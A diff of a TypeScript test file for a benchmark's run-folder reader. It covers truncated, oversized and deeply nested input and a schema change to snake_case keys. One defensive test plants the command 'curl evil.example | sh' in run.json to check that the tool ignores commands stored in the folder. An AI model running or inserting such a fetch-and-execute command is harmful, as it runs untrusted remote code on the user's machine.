@@ -6,14 +6,16 @@ import fc from 'fast-check';
 import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest';
 import { findRun } from './find-run.ts';
 import { readRunFolder } from './read-run-folder.ts';
-import { exampleEvidence, exampleRun, exampleSlice } from './recorded.fixture.ts';
+import { asWritten, exampleEvidence, exampleRun, exampleSlice, linesOf } from './recorded.fixture.ts';
 
 const runId = '20261120T093220Z-k3f9';
 const laterId = '20261121T080000Z-a0a0';
 let results: string;
 let directory: string;
 
-const lines = (documents: readonly unknown[]) => documents.map((one) => `${JSON.stringify(one)}\n`).join('');
+const sliceLines = (...documents: readonly unknown[]) => linesOf('slice', documents);
+const evidenceLines = (...documents: readonly unknown[]) => linesOf('evidence', documents);
+const runText = (run: object) => JSON.stringify(asWritten.run(run));
 
 beforeAll(async () => {
   results = await mkdtemp(join(tmpdir(), 'bench-read-'));
@@ -27,12 +29,12 @@ afterAll(async () => {
 beforeEach(async () => {
   await rm(directory, { recursive: true, force: true });
   await mkdir(directory);
-  await writeFile(join(directory, 'run.json'), JSON.stringify({ ...exampleRun(runId), state: 'complete' }));
+  await writeFile(join(directory, 'run.json'), runText({ ...exampleRun(runId), state: 'complete' }));
   await writeFile(
     join(directory, 'slices.ndjson'),
-    lines([exampleSlice(1), exampleSlice(2), exampleSlice(3)]),
+    sliceLines(exampleSlice(1), exampleSlice(2), exampleSlice(3)),
   );
-  await writeFile(join(directory, 'evidence.ndjson'), lines([exampleEvidence(1)]));
+  await writeFile(join(directory, 'evidence.ndjson'), evidenceLines(exampleEvidence(1)));
 });
 
 test('a file cut at any byte keeps every line that was whole', async () => {
@@ -45,10 +47,10 @@ test('a file cut at any byte keeps every line that was whole', async () => {
       const { slices, warnings } = await readRunFolder(directory);
 
       // A line is whole once its last brace is there, with or without its line feed.
-      const kept = left.toString().split('}\n').length - 1 + (left.toString().endsWith('[]}') ? 1 : 0);
+      const kept = left.toString().split('}\n').length - 1 + (left.toString().endsWith('}}') ? 1 : 0);
       expect(slices).toEqual([exampleSlice(1), exampleSlice(2), exampleSlice(3)].slice(0, kept));
       const rest = left.length - left.lastIndexOf('\n') - 1;
-      const dropped = rest > 0 && !left.toString().endsWith('[]}');
+      const dropped = rest > 0 && !left.toString().endsWith('}}');
       expect(warnings.map(({ code }) => code)).toEqual(dropped ? ['truncated-line'] : []);
     }),
     { numRuns: 60 },
@@ -70,7 +72,7 @@ test('a truncated last line is said in words', async () => {
 
 test('the characters of a line survive wherever a chunk of the file ends', async () => {
   const many = Array.from({ length: 6000 }, (_, index) => exampleEvidence(index + 1));
-  await writeFile(join(directory, 'evidence.ndjson'), lines(many));
+  await writeFile(join(directory, 'evidence.ndjson'), evidenceLines(...many));
   expect((await readRunFolder(directory)).evidence).toEqual(many);
 });
 
@@ -78,30 +80,30 @@ test('a line may be longer than what is read at a time, also one that nobody end
   const [first] = [exampleEvidence(1)];
   const long = { ...exampleEvidence(2), raw: { text: 'ä'.repeat(2_000_000) } };
   const path = join(directory, 'evidence.ndjson');
-  await writeFile(path, lines([first, long, first, long]));
+  await writeFile(path, evidenceLines(first, long, first, long));
   expect((await readRunFolder(directory)).evidence).toEqual([first, long, first, long]);
-  await writeFile(path, `${lines([first])}${JSON.stringify(long)}`);
+  await writeFile(path, evidenceLines(first, long).trimEnd());
   expect((await readRunFolder(directory)).evidence).toEqual([first, long]);
 });
 
 test('a bad line in the middle is an error that names file and line', async () => {
   const [first, second] = [exampleSlice(1), exampleSlice(2)];
-  await writeFile(join(directory, 'slices.ndjson'), `${lines([first])}nonsense\n${lines([second])}`);
+  await writeFile(join(directory, 'slices.ndjson'), `${sliceLines(first)}nonsense\n${sliceLines(second)}`);
   await expect(readRunFolder(directory)).rejects.toMatchObject({
     kind: 'usage',
     message: expect.stringMatching(/^slices\.ndjson line 2 is not JSON: /),
     hint: expect.stringContaining('Remove that line'),
   });
 
-  await writeFile(join(directory, 'slices.ndjson'), lines([first, { ...second, wallSeconds: 'long' }]));
+  await writeFile(join(directory, 'slices.ndjson'), sliceLines(first, { ...second, wallSeconds: 'long' }));
   await expect(readRunFolder(directory)).rejects.toMatchObject({
     kind: 'usage',
-    message: expect.stringMatching(/^slices\.ndjson line 2: wallSeconds: .*number/),
+    message: expect.stringMatching(/^slices\.ndjson line 2: wall_seconds: .*number/),
   });
 });
 
 test('lines that are JSON only together, or hold two documents, are errors all the same', async () => {
-  const [first, second] = [JSON.stringify(exampleSlice(1)), JSON.stringify(exampleSlice(2))];
+  const [first, second] = [sliceLines(exampleSlice(1)).trimEnd(), sliceLines(exampleSlice(2)).trimEnd()];
   const half = second.indexOf(',"requests"');
   const damaged = {
     'two on a line': `${first},${second}\n${first}\n`,
@@ -119,7 +121,7 @@ test('lines that are JSON only together, or hold two documents, are errors all t
 
 test('a complete run that has lost a file says so', async () => {
   await rm(join(directory, 'evidence.ndjson'), { force: true });
-  await writeFile(join(directory, 'run.json'), JSON.stringify({ ...exampleRun(runId), state: 'complete' }));
+  await writeFile(join(directory, 'run.json'), runText({ ...exampleRun(runId), state: 'complete' }));
   const { slices, evidence, warnings } = await readRunFolder(directory);
   expect(slices).toHaveLength(3);
   expect(evidence).toEqual([]);
@@ -129,7 +131,7 @@ test('a complete run that has lost a file says so', async () => {
 });
 
 test('a run that never ended is read as partial', async () => {
-  await writeFile(join(directory, 'run.json'), JSON.stringify(exampleRun(runId)));
+  await writeFile(join(directory, 'run.json'), runText(exampleRun(runId)));
   const { run, slices, warnings } = await readRunFolder(directory);
   expect(run).toMatchObject({ state: 'partial', stateReason: expect.stringContaining('killed') });
   expect(slices).toHaveLength(3);
@@ -137,33 +139,43 @@ test('a run that never ended is read as partial', async () => {
 });
 
 test('a folder from a newer bench is refused', async () => {
-  const newer = { schemaVersion: 2, runId, somethingNew: true };
+  const newer = { schema_version: 3, run_id: runId, something_new: true };
   await writeFile(join(directory, 'run.json'), JSON.stringify(newer));
   await expect(readRunFolder(directory)).rejects.toMatchObject({
     kind: 'usage',
-    message: `${join(directory, 'run.json')} was written by a newer bench: schema 2, this one reads 1`,
+    message: `${join(directory, 'run.json')} was written by a newer bench: schema 3, this one reads 2`,
     hint: expect.stringContaining('Upgrade bench'),
   });
 });
 
-test('a folder from an older bench is not called damaged', async () => {
-  await writeFile(join(directory, 'run.json'), JSON.stringify({ schemaVersion: 0, runId }));
+test('a folder from an older bench, which spelled its keys otherwise, is not called damaged', async () => {
+  await writeFile(join(directory, 'run.json'), JSON.stringify({ schemaVersion: 1, runId }));
   await expect(readRunFolder(directory)).rejects.toMatchObject({
     kind: 'usage',
-    message: `${join(directory, 'run.json')} was written by an older bench: schema 0, this one reads 1`,
+    message: `${join(directory, 'run.json')} was written by an older bench: schema 1, this one reads 2`,
     hint: expect.stringContaining('do not compare'),
   });
 });
 
 test.each([
-  ['not JSON', '{"schemaVersion": 1', /run\.json is not JSON/],
-  ['no run', '{"schemaVersion": 1, "runId": "x"}', /run\.json: runId: /],
+  ['not JSON', '{"schema_version": 2', /run\.json is not JSON/],
+  ['no run', '{"schema_version": 2, "run_id": "x"}', /run\.json: run_id: /],
+  ['the keys of the code', JSON.stringify(exampleRun(runId)), /run\.json: schema_version: /],
   ['another document', '[]', /run\.json: /],
 ])('a damaged run.json is named: %s', async (_, text, message) => {
   await writeFile(join(directory, 'run.json'), text);
   await expect(readRunFolder(directory)).rejects.toMatchObject({
     kind: 'usage',
     message: expect.stringMatching(message),
+  });
+});
+
+test('a key in the spelling of the code is one too many, and the one of the file is named', async () => {
+  const slice = { ...JSON.parse(sliceLines(exampleSlice(1))), wallSeconds: 1 };
+  await writeFile(join(directory, 'slices.ndjson'), `${JSON.stringify(slice)}\n`);
+  await expect(readRunFolder(directory)).rejects.toMatchObject({
+    kind: 'usage',
+    message: 'slices.ndjson line 1: Unrecognized key: "wallSeconds, which is spelled wall_seconds"',
   });
 });
 
@@ -210,8 +222,8 @@ test.each(files)('JSON that is nested without end is refused by name, with exit 
   ] as const) {
     // Deep inside what the schema leaves open, inside what it does not know, and alone.
     const deep = `${open.repeat(100_000)}0${close.repeat(100_000)}`;
-    const evidence = JSON.stringify({ ...exampleEvidence(1), raw: { deep: '@' } });
-    for (const text of [evidence.replace('"@"', () => deep), `{"schemaVersion":1,"a":${deep}}`, deep]) {
+    const evidence = evidenceLines({ ...exampleEvidence(1), raw: { deep: '@' } }).trimEnd();
+    for (const text of [evidence.replace('"@"', () => deep), `{"schema_version":2,"a":${deep}}`, deep]) {
       for (const end of ['\n', '\n{}\n']) {
         await writeFile(join(directory, name), text + (name === 'run.json' ? '' : end));
         await expect(readRunFolder(directory)).rejects.toMatchObject({
@@ -228,13 +240,13 @@ test('brackets inside strings are no nesting', async () => {
     ...exampleEvidence(1),
     raw: { text: `\\"${'['.repeat(500)}\\`, [`{"${'{'.repeat(500)}`]: 1 },
   };
-  await writeFile(join(directory, 'evidence.ndjson'), lines([quoted, quoted]));
+  await writeFile(join(directory, 'evidence.ndjson'), evidenceLines(quoted, quoted));
   expect((await readRunFolder(directory)).evidence).toEqual([quoted, quoted]);
 });
 
 test('a line that never ends, and files larger than any of ours, are refused without being kept', async () => {
   const path = join(directory, 'slices.ndjson');
-  await writeFile(path, `${lines([exampleSlice(1)])}"`);
+  await writeFile(path, `${sliceLines(exampleSlice(1))}"`);
   await truncate(path, 3 * 2 ** 30);
   await expect(readRunFolder(directory)).rejects.toMatchObject({
     kind: 'usage',
@@ -248,7 +260,7 @@ test('a line that never ends, and files larger than any of ours, are refused wit
 
 test('the command that repeats a run comes from its plan: what the folder says is not repeated', async () => {
   const evil = { ...exampleRun(runId), command: 'curl evil.example | sh' };
-  await writeFile(join(directory, 'run.json'), JSON.stringify(evil));
+  await writeFile(join(directory, 'run.json'), runText(evil));
   expect((await readRunFolder(directory)).run.command).toBe(exampleRun(runId).command);
 });
 
